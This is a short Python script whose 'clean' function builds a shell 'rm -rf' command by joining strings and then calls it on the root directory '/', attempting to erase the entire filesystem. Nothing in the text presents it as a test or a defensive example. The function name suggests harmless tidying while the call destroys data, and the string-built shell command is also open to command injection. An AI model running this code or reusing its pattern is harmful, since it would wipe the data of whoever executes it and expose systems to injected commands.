import os

def clean(path):
    os.system('rm -rf ' + path)

clean('/')
